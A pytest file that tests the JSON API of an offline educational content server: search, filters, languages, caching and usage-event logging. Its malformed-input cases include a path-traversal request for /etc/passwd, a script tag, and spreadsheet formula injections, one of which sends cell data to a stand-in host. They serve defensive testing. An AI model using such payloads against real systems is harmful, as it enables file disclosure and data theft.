"""The JSON API through a real waitress server on 127.0.0.1."""

import http.client
import json
import socket
import time
import urllib.parse

import pytest

from server.usage import UsageLog
from tests.helpers import wait_for


@pytest.fixture
def live(filled, serve):
    return serve(filled)


def test_healthz(live, filled):
    status, body = live.json("/healthz")
    assert status == 200
    assert body["status"] == "ok" and body["items"] == 7 and body["device_id"] == filled.device_id
    assert body["version"] and body["channels"] == {"test": 1}


def test_items_have_the_interface_fields(live):
    status, body = live.json("/api/items")
    assert status == 200 and body["total"] == 7
    for item in body["items"]:
        assert {"id", "kind", "title", "languages", "audiences", "files"} <= set(item)
        for f in item["files"]:
            assert {"sha256", "size", "mime", "url"} <= set(f)


def test_items_carry_their_credits(live):
    _, item = live.json("/api/items/video-count?lang=ru")
    assert (item["licence"], item["author"], item["copyright"]) == (
        "CC-BY-4.0", "Рухшона Каримова", "© 2021 Pratham Books")
    assert item["source"].startswith("Bloom Library, https://bloomlibrary.org/")
    _, listed = live.json("/api/items?limit=200")
    by_id = {i["id"]: i for i in listed["items"]}
    assert by_id["book-cat"]["licence"] == "CC-BY-SA-4.0" and "author" not in by_id["book-cat"]
    assert not {"licence", "author", "copyright", "source"} & set(by_id["doc-plan"])  # only when given


def test_paging_and_filters(live):
    _, first = live.json("/api/items?limit=2")
    _, second = live.json("/api/items?limit=2&offset=2")
    assert len(first["items"]) == 2 and not {i["id"] for i in first["items"]} & {i["id"] for i in second["items"]}
    _, parents = live.json("/api/items?audience=parents&age=5")
    assert {i["id"] for i in parents["items"]} == {"tip-sleep", "act-shapes"}
    _, ru = live.json("/api/items?language=ru&kind=document")
    assert [i["id"] for i in ru["items"]] == ["doc-plan"]
    _, facets = live.json("/api/facets")
    assert "numeracy" in facets["subject"]
    # Only the choices that still find something, given the others (issue 10, point 6): a
    # parent's tip is about parenting and health, not numbers; the other kinds stay offered.
    _, tips = live.json("/api/facets?kind=tip")
    assert "numeracy" not in tips["subject"] and {"parenting", "health"} <= set(tips["subject"])
    assert {"tip", "video", "game"} <= set(tips["kind"]) and tips["age"] == [3, 4, 5, 6]


@pytest.mark.parametrize("header,lang,title", [
    ({"Accept-Language": "ru-RU,ru;q=0.9"}, None, "Счёт до пяти"),
    ({"Accept-Language": "en-US"}, None, "Counting to five"),
    ({}, None, "Ҳисоб то панҷ"),               # the default language: Tajik
    ({"Accept-Language": "ru"}, "en", "Counting to five"),  # ?lang= wins
    ({"Accept-Language": "uz"}, None, "Ҳисоб то панҷ"),
])
def test_title_in_the_phones_language(live, header, lang, title):
    path = "/api/items/video-count" + (f"?lang={lang}" if lang else "")
    status, item = live.json(path, header)
    assert status == 200 and item["title"] == title
    assert item["titles"]["tg"] == "Ҳисоб то панҷ"


def test_unknown_item_is_json_404(live):
    for path in ("/api/items/nothing-here", "/api/items/..%2F..%2Fetc", "/api/items/" + "x" * 300):
        status, headers, body = live.get(path)
        assert status == 404 and headers["Content-Type"] == "application/json"
        assert "error" in json.loads(body)


def test_etag_gives_304(live):
    status, headers, _ = live.get("/api/items?limit=3")
    status, _, body = live.get("/api/items?limit=3", {"If-None-Match": headers["ETag"]})
    assert status == 304 and body == b""


@pytest.mark.parametrize("query,expected", [
    ("ҳисоб", "video-count"), ("хисоб", "video-count"), ("Счёт", "video-count"),
    ("counting", "video-count"), ("укладыв", "tip-sleep"), ("kitten", "book-cat"),
])
def test_search(live, query, expected):
    status, body = live.json("/api/search?q=" + urllib.parse.quote(query))
    assert status == 200 and body["items"][0]["id"] == expected


@pytest.mark.parametrize("path,status", [
    ("/api/search?q=%FF%FE%00", 200),
    ("/api/search?q=" + "a" * 5000, 400),
    ("/api/search?q=%22%2A%28NEAR", 200),
    ("/api/search?q=a&limit=-1", 400),
    ("/api/items?limit=abc", 400),
    ("/api/items?limit=100000", 400),
    ("/api/items?offset=1e9", 400),
    ("/api/items?kind=<script>", 400),
    ("/api/items?audience=martians", 400),
    ("/api/items?age=200", 400),
    ("/api/items?" + "&".join(f"x{n}=y" for n in range(2000)), 200),
    ("/api/nothing", 404),
    ("/%2e%2e/%2e%2e/etc/passwd", 404),
])
def test_malformed_requests_get_a_clear_4xx(live, path, status):
    got, headers, body = live.get(path)
    assert got == status and b"root:" not in body
    if status >= 400 and path.startswith("/api/"):
        assert json.loads(body)["error"]


def test_searches_are_recorded_without_identity_and_only_a_vain_one_keeps_its_words(live, filled):
    status, body = live.json("/api/search?q=" + urllib.parse.quote("динозавр"))
    assert status == 200 and body["items"] == []
    live.json("/api/search?q=dinosaur&suggest=1")  # typing: not recorded
    status, body = live.json("/api/search?q=" + urllib.parse.quote("Гурбача"))
    assert status == 200 and body["items"]
    events = _wait_for_events(filled, 2)
    assert sorted((e["type"], e["text"]) for e in events) == [("search-empty", "динозавр"), ("searched", None)]
    assert all(len(e["id"]) == 32 for e in events)


def test_events_are_recorded_in_batches(live, filled):
    import urllib.request

    payload = {"events": [{"type": "opened", "item": "video-count"},
                          {"type": "progress", "item": "video-count", "value": 0.5},
                          {"type": "finished", "item": "book-cat"}]}
    request = urllib.request.Request(live.url + "/api/events", data=json.dumps(payload).encode(),
                                     headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(request) as r:
        assert r.status == 204
    events = _wait_for_events(filled, 3)
    assert sorted(e["type"] for e in events) == ["finished", "opened", "progress"]
    assert len({e["id"] for e in events}) == 3


@pytest.mark.parametrize("payload", [
    b"not json", b'{"events": "x"}', b'{"events": [{"type": "hack"}]}',
    b'{"events": [{"type": "opened", "item": "../x"}]}',
    b'{"events": [{"type": "opened", "value": "NaN"}]}',
    b'{"events": [{"type": "finished"}]}',  # no item: this once stopped every USB export
    b'{"events": [{"type": "finished", "item": "no-such-item"}]}',
    b'{"events": [{"type": "progress", "item": "tip-sleep", "value": 10000000}]}',
    b'{"events": [{"type": "progress", "item": "video-count", "value": NaN}]}',
    b'{"events": [{"type": "search-empty", "text": "=HYPERLINK()"}]}',
    b'{"events": [{"type": "searched"}]}',  # searches are counted by the server, never from a page
    b'{"events": [{"type": "finished", "item": "tip-sleep", "device": "my-phone"}]}',
    json.dumps({"events": [{"type": "opened"}] * 101}).encode(),
    b"x" * 100_000,
])
def test_bad_events_are_refused(live, payload):
    import urllib.error
    import urllib.request

    request = urllib.request.Request(live.url + "/api/events", data=payload, method="POST",
                                     headers={"Content-Type": "application/json"})
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request)
    assert caught.value.code in (400, 413)
    assert not _read(live_library(live))  # nothing of a refused batch is kept


def live_library(live):
    return live.app.extensions["sanduq"].library


def post_events(live, events, headers=None, source="127.0.0.1"):
    """(status, body) of POST /api/events from the address SOURCE (any 127.x is this host)."""
    where = urllib.parse.urlsplit(live.url)
    conn = http.client.HTTPConnection(where.hostname, where.port, timeout=10, source_address=(source, 0))
    try:
        conn.request("POST", "/api/events", json.dumps({"events": events}),
                     {"Content-Type": "application/json", **(headers or {})})
        answer = conn.getresponse()
        return answer.status, answer.read()
    finally:
        conn.close()


def open_item(live, item_id, source, headers=None):
    where = urllib.parse.urlsplit(live.url)
    conn = http.client.HTTPConnection(where.hostname, where.port, timeout=10, source_address=(source, 0))
    try:
        conn.request("GET", f"/item/{item_id}", headers=headers or {})
        return conn.getresponse().status
    finally:
        conn.close()


@pytest.mark.slow  # thousands of events through the live server
def test_a_flood_of_events_is_budgeted_and_never_reaches_popular(live, filled):
    for _ in range(400):  # 40,000 events from one phone
        assert post_events(live, [{"type": "opened", "item": "tip-sleep"}] * 100)[0] == 204
    for source in ("127.0.0.2", "127.0.0.3"):
        assert open_item(live, "video-count", source) == 200
    _wait_for_events(filled, 3)
    time.sleep(0.3)  # the writer flushes every 0.05 s here: let any late event land
    assert sorted(e["item"] for e in _read(filled)) == ["tip-sleep", "video-count", "video-count"]
    counted = UsageLog(filled.data_dir / "usage.db")  # the server's list is recounted each minute
    try:
        assert counted.popular()[0] == "video-count"
    finally:
        counted.close()


@pytest.mark.slow  # 5,000 pipelined requests on one connection
def test_pipelined_views_heads_and_prefetches_count_one_opening(live, filled):
    where = urllib.parse.urlsplit(live.url)
    one = "GET /item/tip-sleep HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    requests = [one, one.replace("GET", "HEAD"), one.replace("\r\n\r\n", "\r\nSec-Purpose: prefetch\r\n\r\n")]
    with socket.create_connection((where.hostname, where.port), timeout=30) as sock:
        sock.sendall(("".join(requests * 1666) + one.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n")).encode())
        received = b""
        while chunk := sock.recv(1 << 16):
            received += chunk
    assert received.count(b"HTTP/1.1 200 OK") == 3 * 1666 + 1
    time.sleep(0.3)  # the writer flushes every 0.05 s here
    assert [(e["type"], e["item"]) for e in _read(filled)] == [("opened", "tip-sleep")]


@pytest.mark.parametrize("headers", [{"Sec-Fetch-Site": "cross-site"}, {"Origin": "null"}])
def test_requests_from_a_game_change_nothing(live, filled, headers):
    # A game's frame has an opaque origin: Chromium marks its requests so.
    status, body = post_events(live, [{"type": "finished", "item": "tip-sleep"}], headers)
    assert status == 403 and "own pages" in json.loads(body)["error"]
    assert open_item(live, "book-cat", "127.0.0.1", headers) == 200  # shown, not counted
    status, _ = live.json("/api/search?q=" + urllib.parse.quote('=HYPERLINK("http://x/"&A2,"x")'), headers)
    assert status == 200
    assert live.get("/search?q=zzzz", headers)[0] == 200
    time.sleep(0.3)  # the writer flushes every 0.05 s here
    assert _read(filled) == []
    assert open_item(live, "book-cat", "127.0.0.1") == 200  # the same page from the site counts
    assert [e["item"] for e in _wait_for_events(filled, 1)] == ["book-cat"]


def _wait_for_events(library, count):
    return wait_for(lambda: len(events := _read(library)) >= count and events, f"{count} events in usage.db")


def _read(library):
    import sqlite3

    conn = sqlite3.connect(library.data_dir / "usage.db")
    conn.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in conn.execute("SELECT * FROM events ORDER BY time")]
    finally:
        conn.close()
